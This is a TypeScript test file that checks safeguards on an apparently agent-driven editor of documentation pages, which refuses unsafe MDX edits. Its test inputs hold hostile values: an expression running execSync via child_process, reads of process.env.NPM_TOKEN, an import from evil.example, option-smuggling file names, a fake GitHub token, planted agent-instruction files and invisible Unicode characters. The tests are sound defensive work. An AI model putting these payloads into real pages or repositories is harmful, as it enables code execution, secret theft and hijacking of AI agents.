import { afterAll, beforeAll, expect, test } from "vitest";
import { openTestTools, type TestTools } from "../testing.ts";
import { findHiddenCharacter, reviewChanges } from "./file-rules.ts";

const PAGE = "---\ntitle: Home\n---\n\nHello.\n";
const CODE = "{globalThis.process.getBuiltinModule('child_process').execSync('id')}";
const FILES = {
  "docs.json": '{ "navigation": ["index", "code", "guide/tabs"] }\n',
  "index.mdx": PAGE,
  "code.mdx": `${PAGE}\n{user.name}\n`,
  "guide/tabs.mdx": `import Intro from "../snippets/intro.mdx";\nimport { Tabs } from '@acme/ui'\n\n${PAGE}\n<Tabs />\n`,
  "plain.md": `${PAGE}\nText with {braces}.\n`,
  "~old.md": PAGE,
  "models/gemini.md": PAGE,
  "hidden.mdx": `${PAGE}\nZero\u200bwidth.\n`,
};
const TOKEN = `gh${"p_"}Zk3vQ9xLm2Wc8Rt5Yb7Nd1Hf4Js6Kp0Gq2Xe`;

let tools: TestTools;
beforeAll(async () => {
  tools = await openTestTools(FILES);
  for (const path of ["index.mdx", "code.mdx", "docs.json"]) await tools.call("read", { path });
});
afterAll(() => tools[Symbol.asyncDispose]());

const error = async (name: string, input: object) => {
  const { isError, output } = await tools.call(name, input);
  return isError ? String((output as { error: string }).error) : null;
};

test.each<readonly [string, object, string]>([
  ["edit", { path: "index.mdx", old: "Hello.", new: CODE }, "an expression"],
  ["edit", { path: "index.mdx", old: "Hello.", new: "{process.env.NPM_TOKEN}" }, "an expression"],
  ["edit", { path: "index.mdx", old: "Hello.", new: '<b dangerouslySetInnerHTML={{ __html: "" }} />' }, "an attribute"],
  ["edit", { path: "code.mdx", old: "{user.name}", new: "{user.token}" }, "an expression"],
  [
    "multi_edit",
    {
      path: "index.mdx",
      edits: [
        { old: "Hello.", new: "{process" },
        { old: "{process", new: "{process.env.X}" },
      ],
    },
    "an expression",
  ],
  ["write", { path: "index.mdx", content: `${PAGE}\n${CODE}\n` }, "an expression"],
  ["write", { path: "new.mdx", content: `${PAGE}\n{user.name}\n` }, "an expression"],
  ["write", { path: "new.mdx", content: `import X from "https://evil.example/x.js"\n\n${PAGE}` }, "an import"],
  ["write", { path: "new.mdx", content: `import fs from "fs"\n\n${PAGE}` }, "an import"],
  [
    "write",
    { path: "docs.json", content: '{ "navigation": [], "integrations": { "gtm": { "tagId": "x" } } }' },
    "a setting",
  ],
  ["edit", { path: "index.mdx", old: "Hello.", new: "Hel\u202elo." }, "U+202E"],
  ["edit", { path: "index.mdx", old: "Hello.", new: "Hel\u200blo." }, "index.mdx, line 5"],
  ["edit", { path: "index.mdx", old: "Hello.", new: `The token is ${TOKEN}.` }, "a GitHub token"],
  ["write", { path: "~/x.md", content: PAGE }, "starts with ~"],
  ["write", { path: "--output=/tmp/x.md", content: PAGE }, "starts with -"],
  ["write", { path: "guide/-rf.md", content: PAGE }, "starts with -"],
  ["move", { from: "index.mdx", to: "-x.mdx" }, "starts with -"],
  ["write", { path: "guide/claude.md", content: PAGE }, "would be instructions for agents on some systems"],
  ["move", { from: "plain.md", to: "guide/Agents.md" }, "would be instructions for agents on some systems"],
])("%s %j is refused: %s", async (name, input, words) => {
  const sentence = await error(name, input);

  expect(sentence).toContain(words);
  expect(sentence).not.toContain(TOKEN);
  expect(await tools.workspace.changes()).toEqual([]);
});

test("a page of a docs site may not become MDX with what was text in it", async () => {
  await using plain = await openTestTools({
    "mkdocs.yml": "site_name: X\n",
    "a.md": `${PAGE}\nText with {process.env.X}.\n`,
  });

  const { output } = await plain.call("move", { from: "a.md", to: "a.mdx" });

  expect(output).toMatchObject({ error: expect.stringContaining("an expression") });
});

test("a page that is moved keeps its code, at its new place alone", async () => {
  await using job = await openTestTools(FILES);
  await job.call("read", { path: "code.mdx" });

  expect(await job.call("move", { from: "code.mdx", to: "deep/code.mdx" })).toMatchObject({ isError: false });
  expect(await job.call("edit", { path: "deep/code.mdx", old: "Hello.", new: "Welcome." })).toMatchObject({
    isError: false,
  });
  expect(await job.call("edit", { path: "deep/code.mdx", old: "Welcome.", new: "{user.mail}" })).toMatchObject({
    isError: true,
  });
  expect(await job.call("write", { path: "code.mdx", content: PAGE })).toMatchObject({ isError: false });

  const { refusal } = await reviewChanges(job.workspace, await job.workspace.changes());
  expect(refusal).toContain("adds an expression to deep/code.mdx");
  expect(await job.call("finish", { title: "Move", summary: "Moved." })).toMatchObject({ isError: true });
});

test("imports that another page has may be added, from any folder, and are reported to the reviewer", async () => {
  await using job = await openTestTools(FILES);
  const content = `import Intro from "./snippets/intro.mdx"\nimport { Tabs } from "@acme/ui"\n\n${PAGE}\n<Tabs items={["a"]} />\n`;

  expect(await job.call("write", { path: "new.mdx", content })).toMatchObject({ isError: false });
  expect(await reviewChanges(job.workspace, await job.workspace.changes())).toEqual({
    refusal: null,
    addedCode: [
      { path: "new.mdx", line: 1, code: 'import Intro from "./snippets/intro.mdx"' },
      { path: "new.mdx", line: 2, code: 'import { Tabs } from "@acme/ui"' },
    ],
  });
});

test("an edit of the job does not vouch for an import", async () => {
  await using job = await openTestTools(FILES);
  const content = `import { Secret } from "@acme/ui"\n\n${PAGE}`;
  await job.workspace.write("a.mdx", content);

  expect(await job.call("write", { path: "b.mdx", content })).toMatchObject({ isError: true });
});

test("what was written past the tools is refused before the push", async () => {
  for (const text of [`${PAGE}\n${CODE}\n`, `${PAGE}\nbi\u202edi\n`, `${PAGE}\n${TOKEN}\n`]) {
    await using job = await openTestTools(FILES);
    await job.workspace.write("index.mdx", text);

    expect((await reviewChanges(job.workspace, await job.workspace.changes())).refusal).toContain("to index.mdx, line");
  }
});

test("a file whose name no new one may have, and a page with invisible text, may be edited", async () => {
  await using job = await openTestTools(FILES);
  for (const path of ["~old.md", "hidden.mdx", "models/gemini.md"]) {
    await job.call("read", { path });
    expect(await job.call("edit", { path, old: "Hello.", new: "Welcome." })).toMatchObject({ isError: false });
  }
  expect(await job.workspace.commit("Edit", new Date(0))).not.toBeNull();
});

test.each([
  ["\u202e", "a text direction override (U+202E)"],
  ["\u202a", "a text direction override (U+202A)"],
  ["\u2066", "a text direction override (U+2066)"],
  ["\u2069", "a text direction override (U+2069)"],
  ["\u200e", "a text direction mark (U+200E)"],
  ["\u061c", "a text direction mark (U+061C)"],
  ["\u200b", "a zero-width space (U+200B)"],
  ["\u200c", "a zero-width joiner (U+200C)"],
  ["\u200d", "a zero-width joiner (U+200D)"],
  ["\u2060", "an invisible operator (U+2060)"],
  ["\ufeff", "a byte order mark inside the text (U+FEFF)"],
  ["\u{e0041}", "an invisible tag character (U+E0041)"],
  ["\ufe0f", "a variation selector (U+FE0F)"],
  ["\u{e0101}", "a variation selector (U+E0101)"],
  ["\u00ad", "a soft hyphen (U+00AD)"],
  ["\u001b", "a control character (U+001B)"],
  ["\u0085", "a control character (U+0085)"],
  ["\u2028", "an invisible character (U+2028)"],
  ["\u3164", "an invisible character (U+3164)"],
])("%j in a word is named with its line", (sign, name) => {
  expect(findHiddenCharacter(["# A\n\nSome text.\n"], `# A\n\nSo${sign}me text.\n`)).toEqual({ line: 3, name });
});

test.each([
  "Tabs\tand\r\nline ends",
  "\ufeff# A byte order mark at the start",
  "A family 👨‍👩‍👧‍👦, a flag 🏳️‍🌈, a heart ❤️ and a key 1️⃣",
  "A thumb 👍🏽 and an astronaut 👩🏽‍🚀",
  "می‌خواهم کتاب‌ها را",
  "क्‍ष and श्री",
  "שלום\u200f (hello)\u200e!",
  "مرحبا\u200f 123",
  "葛\u{e0100}城",
])("%j needs its invisible characters", (text) => {
  expect(findHiddenCharacter([], text)).toBeNull();
});

test("an override is refused on lines of Arabic and Hebrew, too", () => {
  expect(findHiddenCharacter([], "שלום \u202eabc")).toMatchObject({ line: 1 });
});

test("what stood in the text stays, and may move within it, and one more is new", () => {
  const before = "a\u200bb\n\nc\n";

  expect(findHiddenCharacter([before], "x\n\na\u200bb d\n")).toBeNull();
  expect(findHiddenCharacter([before], `${before}d\u200be\n`)).toMatchObject({ line: 4 });
});
